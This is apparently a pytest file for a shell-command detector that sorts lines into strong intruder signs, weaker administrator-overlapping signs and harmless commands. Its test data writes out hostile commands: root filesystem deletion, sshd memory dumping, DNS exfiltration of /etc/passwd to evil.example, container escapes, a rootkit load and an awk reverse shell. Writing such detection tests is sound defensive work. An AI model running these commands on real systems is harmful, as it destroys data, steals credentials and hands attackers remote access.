# SPDX-License-Identifier: Apache-2.0
"""Destruction, credentials, spreading and escape by one command are told; what administrators type stays unsaid or weak."""

from __future__ import annotations

import polars as pl
import pytest

from headwater.detect.commands import suspicious


def traits(line: str) -> set[tuple[str, bool]]:
    found = suspicious(pl.DataFrame({"line": [line]}), "line")
    return {(t.name, t.strong) for t in found.get(line, [])}


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("rm -rf --no-preserve-root /", "destroy"),
        ("rm -rf /*", "destroy"),
        ("strace -p $(pgrep -f sshd) -e trace=read -o /root/k", "process-memory"),
        ("gcore -o /root/x $(pgrep sshd)", "process-memory"),
        ("impacket-psexec admin@10.0.0.3", "remote-tool"),
        ("python3 secretsdump.py a:b@10.0.0.3", "remote-tool"),
        ("./mimipenguin.sh", "credentials"),
        ("xxd -p /etc/passwd | while read l; do dig $l.evil.example; done", "exfiltrate-dns"),
        ("docker run -v /:/host --privileged alpine chroot /host sh", "container-escape"),
        ("nsenter --target 1 --mount sh", "container-escape"),
        ("insmod diamorphine.ko", "kernel-module"),
        ("awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/44\"; while(1) {s |& getline c; c |& getline}}'", "reverse-shell"),
    ],
)
def test_an_intruders_command_is_strong(line: str, name: str) -> None:
    assert (name, True) in traits(line)


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("dd if=/dev/zero of=/dev/sdb bs=1M", "wipe-disk"),
        ("mysql -e 'DROP DATABASE shop'", "drop-database"),
        ("setenforce 0", "defence-off"),
        ("systemctl stop firewalld", "defence-off"),
        ("find / -name id_rsa", "key-search"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "key-search"),
    ],
)
def test_what_administrators_do_as_well_is_weak(line: str, name: str) -> None:
    assert (name, False) in traits(line)
    assert not any(strong for _, strong in traits(line))


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /var/cache/apt", "rm -r ./build /srv/old", "dd if=/dev/zero of=/swapfile bs=1M count=1024", "strace -f -o out ls",
        "gdb ./server core", "docker run --rm -v /srv/data:/data alpine ls", "dig example.org", "for h in a b; do host $h; done",
        "mysql -e 'show databases'", "modprobe br_netfilter", "systemctl restart firewalld", "iptables -L -n", "find . -name '*.py'",
        "curl http://169.254.169.254/latest/meta-data/instance-id", "netstat -tlnp", "docker exec -it web sh",
    ],
)  # fmt: skip
def test_everyday_commands_have_none_of_them(line: str) -> None:
    new = {
        "destroy",
        "process-memory",
        "remote-tool",
        "exfiltrate-dns",
        "container-escape",
        "wipe-disk",
        "drop-database",
        "defence-off",
        "key-search",
    }
    assert not {n for n, _ in traits(line)} & new
